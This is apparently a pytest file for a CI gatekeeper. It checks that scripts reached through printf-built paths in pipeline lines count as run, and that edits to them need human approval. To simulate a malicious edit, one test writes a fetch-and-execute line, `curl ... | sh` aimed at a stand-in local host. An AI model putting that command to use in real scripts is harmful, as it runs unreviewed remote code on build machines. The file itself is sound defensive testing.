"""Attack 46: a script path a CI line computes with `printf` (`S=$(printf lib/%s.sh ci); bash "$S"`, `printf -v S
"lib/%s.sh" ci`): the format's conversions are variable parts, as `$VAR` is, so `lib/%s.sh` stands for the folder's
scripts of that type. Each was `src` and an edit to `lib/ci.sh` an exit-0 allow on main 13d71d3 (`gate --tree`).
Real bash is the truth of what the line runs.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

from citools import LINE_DEFINITIONS, one_tree_runs, yaml_quoted
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import commandlines

SH = "#!/bin/sh\necho ci\n"
# (not closed: a format whose folder or type is a conversion, `printf "%s/ci.sh" lib`, `printf 'lib/%s.%s' ci sh`,
# which name no folder or type, as `$D/ci.sh` with an unknown `D` names none)
LINES = ['S=$(printf lib/%s.sh ci); bash "$S"', 'printf -v S "lib/%s.sh" ci; bash "$S"',
         'bash "$(printf lib/%02d-ci.sh 1)"', 'S=$(printf "%s" lib/ci.sh); . "$S"',
         "bash $(printf 'lib/%-2s.sh' ci)", 'for n in ci; do bash "$(printf ./lib/%s.sh "$n")"; done']
TARGETS = ["lib/ci.sh", "lib/ci.sh", "lib/01-ci.sh", "lib/ci.sh", "lib/ci.sh", "lib/ci.sh"]


def _definition(definition: str, template: str, line: str) -> str:
    return template.format(line=yaml_quoted(line) if definition.endswith(".yml") else line)


@each_case(("line", "target"), list(zip(LINES, TARGETS, strict=True)))
def test_bash_runs_the_printed_path(tmp_path: Path, line: str, target: str) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    (tmp_path / "lib").mkdir()
    (tmp_path / target).write_text(f"echo ran {target}\n")
    done = subprocess.run([bash, "-c", line], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.stdout.strip() == f"ran {target}", done


@each_case(("line", "target"), list(zip(LINES, TARGETS, strict=True)))
def test_the_printed_path_is_run(line: str, target: str) -> None:
    for definition, template in LINE_DEFINITIONS:
        runs = one_tree_runs({definition: _definition(definition, template, line), target: SH})
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


# a format that prints no path; a folder the format does not name; a file of another type
LOOK_ALIKES = [("printf '%s\\n' done", "lib/ci.sh"), ('S=$(printf lib/%s.sh ci); bash "$S"', "tools/ci.sh"),
               ('S=$(printf lib/%s.sh ci); bash "$S"', "lib/ci.py")]


@each_case(("line", "target"), LOOK_ALIKES)
def test_a_file_the_format_does_not_name_is_not_run(line: str, target: str) -> None:
    definition, template = LINE_DEFINITIONS[0]
    runs = one_tree_runs({definition: _definition(definition, template, line), target: SH})
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


def test_the_edited_printed_script_needs_a_human(tmp_path: Path) -> None:
    definition, template = LINE_DEFINITIONS[0]
    base = {definition: _definition(definition, template, LINES[0]), "lib/ci.sh": SH}
    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://127.0.0.1:9/i | sh\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


@each_case("text", [repeated("printf %-0+'9.9", "", ""), repeated("printf %s %%%% \n", "", "")])
def test_the_conversions_are_read_in_linear_time(text: object) -> None:
    assert_linear(commandlines.printed, text, budget=1.0)  # type: ignore[arg-type]
